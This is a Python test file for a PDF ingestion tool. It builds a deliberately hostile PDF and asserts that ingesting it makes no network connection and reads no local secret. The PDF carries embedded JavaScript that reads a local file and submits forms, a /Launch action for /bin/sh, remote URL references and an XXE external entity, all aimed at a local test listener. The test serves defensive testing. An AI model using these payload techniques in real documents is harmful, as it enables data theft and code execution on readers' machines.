"""A document triggers nothing: no script, no program, no file of ours, no connection."""

from __future__ import annotations

import socket
from pathlib import Path

import bombs
import pytest
from bounded import ingest
from PIL import Image

from tests.in_process import run_in_process

SECRET = "the secret of the house"


def _hostile(port: int, secret: Path, picture: Path) -> bytes:
    """Everything a PDF can ask a reader to do, on one page that says a few words."""
    away = f"http://127.0.0.1:{port}"
    web = f"<< /Type /Filespec /FS /URL /F ({away}/x) >>".encode()
    local = f"<< /Type /Filespec /F ({secret}) /UF ({secret}) >>".encode()
    script = f"app.launchURL('{away}'); this.submitForm('{away}'); util.readFileIntoStream('{secret}');"
    image = b"/Type /XObject /Subtype /Image /Width 400 /Height 400 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    annots = b"[<< /Type /Annot /Subtype /Link /Rect [0 0 800 800] /A 7 0 R /AA << /PO 7 0 R /PV 8 0 R >> >>"
    annots += b" << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS %s >>" % local
    annots += b" << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>]"
    page = bombs.leaf(
        4,
        resources=b"/XObject << /I 10 0 R /J 11 0 R /K 12 0 R /R 13 0 R >>",
        extra=b"/AA << /O 6 0 R /C 7 0 R >> /Annots " + annots,
    )
    draw = b"".join(
        b"q 300 0 0 300 50 %d cm /%s Do Q " % (50 + 9 * n, x) for n, x in enumerate((b"I", b"J", b"K", b"R"))
    )
    return bombs.pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /DP 8 0 R >>"
            b" /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(b) << /Type /Filespec /F (b)"
            b" /EF << /F 14 0 R >> >>] >> >> /AcroForm << /Fields [] /XFA 15 0 R /NeedAppearances true >>"
            + f" /URI << /Base ({away}/) >> >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            bombs.stream(bombs.text("an ordinary page about zebras") + draw),
            bombs.FONT,
            f"<< /S /JavaScript /JS ({script}) /Next [7 0 R 8 0 R 9 0 R] >>".encode().replace(b"(app.", b"(app\\."),
            f"<< /S /URI /URI ({away}/uri) >>".encode(),
            b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) >> /Next << /S /SubmitForm /F %s >> >>" % web,
            b"<< /S /GoToR /F %s /D [0 /Fit] >>" % web,
            bombs.stream(b"", image + b"/F %s /FFilter /DCTDecode" % web),
            bombs.stream(b"", image + f"/F ({picture}) /FFilter /DCTDecode".encode()),
            bombs.stream(b"", image + f"/F << /FS /URL /F (file://{picture}) >>".encode()),
            bombs.stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>" % local),
            bombs.stream(b"%PDF-1.4 embedded", b"/Type /EmbeddedFile /F %s" % local),
            bombs.stream(f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '{away}/dtd'>]><x>&y;</x>".encode()),
        ]
    )


@pytest.mark.parametrize("ocr", ["off", pytest.param("force", marks=pytest.mark.slow)])
def test_nothing_is_fetched_run_or_read(tmp_path: Path, ocr: str) -> None:
    secret, picture = tmp_path / "secret.txt", tmp_path / "secret.jpg"
    secret.write_text(SECRET)
    Image.new("RGB", (400, 400), (255, 0, 0)).save(picture)
    folder, index = tmp_path / "docs", tmp_path / "index"
    folder.mkdir()
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        (folder / "zebra.pdf").write_bytes(_hostile(listener.getsockname()[1], secret, picture))
        result = ingest(folder, index, "--ocr", ocr)
        try:
            listener.accept()
        except BlockingIOError:
            reached = False
        else:
            reached = True
    assert not reached, "a document made us connect"
    assert result.outcomes() == {"zebra": ("added", "")}, result.said
    page = run_in_process("show", "zebra.pdf", "1", "--json", "--index", str(index)).document
    assert "zebras" in page["markdown_content"]
    assert "secret" not in page["markdown_content"]
    with Image.open(page["image_path"]) as drawn:
        colours = drawn.convert("RGB").getcolors(1 << 24) or []
        red = sum(count for count, (r, g, b) in colours if r > 200 and g < 90 and b < 90)
    assert red == 0, "a picture of this machine was drawn into the page"
